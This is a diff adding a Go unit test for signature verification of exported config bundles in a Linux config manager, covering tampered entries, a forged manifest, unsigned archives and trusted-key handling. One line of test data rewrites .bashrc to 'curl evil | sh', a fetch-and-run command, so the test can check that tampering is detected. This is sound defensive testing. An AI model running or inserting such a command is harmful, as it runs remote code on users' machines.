@@ -0,0 +1,169 @@
+package services
+
+import (
+	"archive/zip"
+	"bytes"
+	"errors"
+	"io"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"linux-config-manager-backend/internal/models"
+	"linux-config-manager-backend/internal/testutil"
+)
+
+func TestSignedBundleVerification(t *testing.T) {
+	home := testutil.SetupHome(t)
+
+	writeTestFile(t, filepath.Join(home, ".bashrc"), "echo ok\n")
+
+	configService := NewConfigService()
+	signingService := NewSigningService()
+	var buf bytes.Buffer
+	if err := NewExportService(configService, signingService).Export(&buf, ExportOptions{}); err != nil {
+		t.Fatalf("导出失败: %v", err)
+	}
+	bundle := buf.Bytes()
+
+	importService := NewImportService(configService, signingService)
+	plan := func(data []byte) (*models.ImportPlan, error) {
+		t.Helper()
+		return importService.Plan(bytes.NewReader(data), int64(len(data)), ImportOptions{})
+	}
+	checkCode := func(err error, code string) {
+		t.Helper()
+		var archiveErr *ArchiveError
+		if !errors.As(err, &archiveErr) || archiveErr.Detail.Code != code {
+			t.Errorf("应返回错误码 %s, got %v", code, err)
+		}
+	}
+
+	result, err := plan(bundle)
+	if err != nil {
+		t.Fatalf("生成导入计划失败: %v", err)
+	}
+	if result.Signature.Status != models.SignatureValid || result.Signature.Signer != "本机" {
+		t.Errorf("本机签名应有效: %+v", result.Signature)
+	}
+
+	// 修改条目内容后，warn 策略下给出警告，require 策略下拒绝该条目
+	tampered := rewriteTestZip(t, bundle, func(name string, content []byte) []byte {
+		if filepath.Base(name) == ".bashrc" {
+			return []byte("curl evil | sh\n")
+		}
+		return content
+	})
+	result, err = plan(tampered)
+	if err != nil {
+		t.Fatalf("生成导入计划失败: %v", err)
+	}
+	if len(result.Entries) != 1 || result.Entries[0].Warning == "" || result.Entries[0].ErrorCode != "" {
+		t.Errorf("warn 策略下被修改的条目应给出警告: %+v", result.Entries)
+	}
+
+	if _, err := signingService.SetPolicy(models.SignaturePolicyRequire); err != nil {
+		t.Fatal(err)
+	}
+	result, err = plan(tampered)
+	if err != nil {
+		t.Fatalf("生成导入计划失败: %v", err)
+	}
+	if len(result.Entries) != 1 || result.Entries[0].ErrorCode != models.ArchiveErrHashMismatch || result.Entries[0].Action != models.ImportActionSkip {
+		t.Errorf("require 策略下应拒绝被修改的条目: %+v", result.Entries)
+	}
+
+	// 修改配置清单会使签名失效
+	forged := rewriteTestZip(t, bundle, func(name string, content []byte) []byte {
+		if name == manifestName {
+			return append(content, ' ')
+		}
+		return content
+	})
+	_, err = plan(forged)
+	checkCode(err, models.ArchiveErrSignature)
+
+	unsigned := buildTestZip(t, [][2]string{{"Shell 配置/.bashrc", "echo ok\n"}})
+	_, err = importService.Plan(unsigned, unsigned.Size(), ImportOptions{})
+	checkCode(err, models.ArchiveErrUnsigned)
+
+	// 其他机器的密钥签名的导出包需要先添加到受信任列表
+	other := testutil.SetupHome(t)
+	writeTestFile(t, filepath.Join(other, ".bashrc"), "echo ok\n")
+	otherSigning := NewSigningService()
+	buf.Reset()
+	if err := NewExportService(NewConfigService(), otherSigning).Export(&buf, ExportOptions{}); err != nil {
+		t.Fatalf("导出失败: %v", err)
+	}
+	foreign := buf.Bytes()
+	otherKey, err := otherSigning.PublicKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	// 校验签名不会在还没有密钥的机器上生成密钥
+	testutil.SetupHome(t)
+	freshPlan, err := NewImportService(NewConfigService(), NewSigningService()).Plan(bytes.NewReader(foreign), int64(len(foreign)), ImportOptions{})
+	if err != nil || freshPlan.Signature.Status != models.SignatureUntrusted {
+		t.Fatalf("没有本机密钥时应报告签名者不受信任: %+v %v", freshPlan, err)
+	}
+	if _, err := os.Stat(filepath.Join(configDir(), "signing_key.json")); !os.IsNotExist(err) {
+		t.Errorf("校验签名不应生成本机密钥: %v", err)
+	}
+
+	_, err = plan(foreign)
+	checkCode(err, models.ArchiveErrUntrusted)
+
+	if _, err := signingService.AddTrustedKey(models.AddTrustedKeyRequest{Name: "笔记本", PublicKey: otherKey.PublicKey}); err != nil {
+		t.Fatalf("添加受信任公钥失败: %v", err)
+	}
+	if _, err := signingService.AddTrustedKey(models.AddTrustedKeyRequest{PublicKey: otherKey.PublicKey}); !errors.Is(err, ErrAlreadyExists) {
+		t.Errorf("重复添加公钥应返回 ErrAlreadyExists, got %v", err)
+	}
+	result, err = plan(foreign)
+	if err != nil {
+		t.Fatalf("生成导入计划失败: %v", err)
+	}
+	if result.Signature.Status != models.SignatureValid || result.Signature.Signer != "笔记本" || result.Signature.KeyID != otherKey.KeyID {
+		t.Errorf("受信任的签名应有效: %+v", result.Signature)
+	}
+
+	if err := signingService.RemoveTrustedKey(otherKey.KeyID); err != nil {
+		t.Fatalf("删除受信任公钥失败: %v", err)
+	}
+	_, err = plan(foreign)
+	checkCode(err, models.ArchiveErrUntrusted)
+}
+
+// rewriteTestZip 复制 ZIP 压缩包，并用 modify 的返回值替换每个条目的内容
+func rewriteTestZip(t *testing.T, data []byte, modify func(name string, content []byte) []byte) []byte {
+	t.Helper()
+	reader, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	zipWriter := zip.NewWriter(&buf)
+	for _, file := range reader.File {
+		rc, err := file.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		content, err := io.ReadAll(rc)
+		rc.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+		w, err := zipWriter.Create(file.Name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := w.Write(modify(file.Name, content)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := zipWriter.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}